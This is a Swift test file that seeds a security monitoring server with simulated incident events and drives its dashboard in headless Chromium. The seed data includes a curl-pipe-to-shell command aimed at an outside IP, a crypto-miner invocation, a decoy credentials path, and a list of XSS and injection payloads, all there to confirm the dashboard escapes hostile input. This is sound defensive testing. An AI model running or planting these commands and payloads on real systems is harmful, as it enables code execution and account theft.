import Foundation
import XCTest
#if canImport(Glibc)
import Glibc
#endif

/// A tool these tests need is not installed: a skip, or under KITSUNE_TESTS_STRICT=1 (scripts/test) a
/// failure (the EnforcerHarness pattern; test targets do not import one another).
func browserToolMissing(_ message: String, file: StaticString = #filePath, line: UInt = #line) -> XCTSkip {
    if ProcessInfo.processInfo.environment["KITSUNE_TESTS_STRICT"] == "1" { XCTFail(message, file: file, line: line) }
    return XCTSkip(message)
}

/// The dashboard in a real browser: the built `kitsune server` seeded through its API with an
/// incident and hostile events, then Browser/dashboard_test.py drives headless Debian chromium through
/// it (Selenium). Screenshots of each page go to a temporary directory this test prints.
final class DashboardBrowserTests: XCTestCase {
    static var script: String {
        URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent("Browser/dashboard_test.py").path
    }

    func testDashboardInHeadlessChromium() async throws {
        for tool in ["/usr/bin/chromium", "/usr/bin/chromedriver"] where !FileManager.default.isExecutableFile(atPath: tool) {
            throw browserToolMissing("\(tool) is not installed (apt-get install chromium chromium-driver; scripts/setup does)")
        }
        if (try? PostgresCluster.execute(["/usr/bin/env", "python3", "-c", "import selenium"]))?.status != 0 {
            throw browserToolMissing("Selenium is not installed for python3 (pip install selenium; scripts/setup does)")
        }
        let dir = try makeTemporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let shots = NSTemporaryDirectory() + "kitsune-dashboard-shots-\(UUID().uuidString.prefix(8))"
        try FileManager.default.createDirectory(atPath: shots, withIntermediateDirectories: true)
        let storeArgs = ["--data", dir + "/data"]
        let out = try PostgresCluster.run([ReliabilityTests.kitsune, "server", "token", "create", "--role", "admin", "--name", "browser admin"] + storeArgs)
        let admin = try XCTUnwrap(out.split(separator: "\n").first { $0.hasPrefix("kit_") }.map(String.init), out)
        let server = try ServerProcess(storeArgs, log: dir + "/server.log")
        defer { server.kill(SIGTERM) }
        let base = server.base

        let viewer = try await TestHTTP.json("POST", base + "/api/v1/tokens", token: admin, body: ["role": "viewer", "name": "browser viewer"])
        let viewerToken = try XCTUnwrap(viewer["token"] as? String, "\(viewer)")
        let group = try await TestHTTP.json("POST", base + "/api/v1/enforcer-groups", token: admin, body: ["name": "prod-web"])
        let groupToken = try XCTUnwrap(group["token"] as? String, "\(group)")
        let posted = try await TestHTTP.request("POST", base + "/api/v1/events", token: groupToken,
                                                body: try JSONSerialization.data(withJSONObject: Self.seedEvents()))
        XCTAssertEqual(posted.status, 202, String(decoding: posted.body, as: UTF8.self))

        let run = try PostgresCluster.execute(["/usr/bin/env", "python3", Self.script, base, admin, viewerToken, groupToken, shots])
        print("dashboard screenshots: \(shots)")
        print(run.output)
        XCTAssertEqual(run.status, 0, run.output)
        let names = (try? FileManager.default.contentsOfDirectory(atPath: shots)) ?? []
        XCTAssertGreaterThanOrEqual(names.filter { $0.hasSuffix(".png") }.count, 12, "screenshots: \(names)")
    }

    /// An invocation with an injected command (started → blocked → honeypot), and events whose every
    /// field an attacker chose.
    static func seedEvents() -> [[String: Any]] {
        let now = Date()
        func t(_ secondsAgo: Double) -> String {
            let f = ISO8601DateFormatter()
            f.formatOptions = [.withInternetDateTime, .withFractionalSeconds]
            return f.string(from: now.addingTimeInterval(-secondsAgo))
        }
        let instance = String(repeating: "a", count: 32)
        let runtime: [String: Any] = ["pid": 8, "executable": "/var/lang/bin/python3.12", "argv": ["/var/lang/bin/python3.12", "/var/runtime/bootstrap.py"]]
        let shell: [String: Any] = ["pid": 41, "executable": "/bin/sh", "argv": ["/bin/sh", "-c", "curl -s http://198.51.100.7/x.sh | sh"]]
        var events: [[String: Any]] = [
            ["time": t(600), "action": "started", "mode": "enforce", "version": "0.4.0", "function_name": "convert-doc", "region": "us-east-1",
             "account_id": "123456789012", "not_enforced": ["landlock", "honeypot"], "controls": ["drift": "supervisor"], "mechanisms": ["landlock": false],
             "instance_id": instance, "seq": 1],
            ["time": t(300), "action": "blocked", "mode": "enforce", "reason": "drift", "reasons": ["drift"], "function_name": "convert-doc", "region": "us-east-1",
             "account_id": "123456789012", "request_id": "req-incident-1", "executable": "/tmp/x.sh", "argv": ["sh", "/tmp/x.sh"], "pid": 42, "ppid": 41,
             "syscall": "execve", "ancestors": [shell, runtime], "instance_id": instance, "seq": 2],
            ["time": t(299), "action": "blocked", "mode": "enforce", "reason": "blocklist", "function_name": "convert-doc", "region": "us-east-1",
             "account_id": "123456789012", "request_id": "req-incident-1", "executable": "/tmp/xmrig", "argv": ["/tmp/xmrig", "-o", "pool:3333"], "pid": 43, "ppid": 41,
             "ancestors": [shell, runtime], "instance_id": instance, "seq": 3],
            ["time": t(298), "action": "reported", "mode": "enforce", "reason": "honeypot", "file": "/tmp/backup/.aws/credentials", "access": "open",
             "detail": "a decoy credentials file planted by kitsune was touched", "function_name": "convert-doc", "region": "us-east-1",
             "account_id": "123456789012", "request_id": "req-incident-1", "instance_id": instance, "seq": 4],
        ]
        let hostile = [
            "<script>alert(1)</script>", "<img src=x onerror=\"window.__pwned=1;alert(1)\">", "javascript:window.__pwned=1",
            "\"><svg onload=\"window.__pwned=1\">", "evil\u{202E}fdp.exe", "<a href=\"javascript:alert(1)\">click</a>",
            "{{constructor.constructor('window.__pwned=1')()}}", String(repeating: "A<b>", count: 16_000),
        ]
        for (i, payload) in hostile.enumerated() {
            events.append(["time": t(200 - Double(i)), "action": "blocked", "mode": "enforce", "reason": "drift", "function_name": i == 0 ? "payments" : "payments<img src=x onerror=alert(1)>",
                           "region": "eu-west-1", "account_id": "210987654321", "request_id": "req-\(i)\"><img src=x onerror=alert(1)>",
                           "executable": "/tmp/" + String(payload.prefix(200)), "argv": [payload, "--url=javascript:alert(document.cookie)"],
                           "detail": payload, "file": String(payload.prefix(300)), "ancestors": [["pid": 9, "executable": String(payload.prefix(300)), "argv": [payload]]],
                           "instance_id": String(repeating: "b", count: 32), "seq": 10 + i])
        }
        events.append(["time": t(100), "action": "blocked", "mode": "audit", "reason": "fileless", "function_name": "payments", "region": "eu-west-1",
                       "account_id": "210987654321", "executable": "memfd:payload", "argv": ["memfd:payload"], "instance_id": String(repeating: "c", count: 32), "seq": 1])
        return events
    }
}
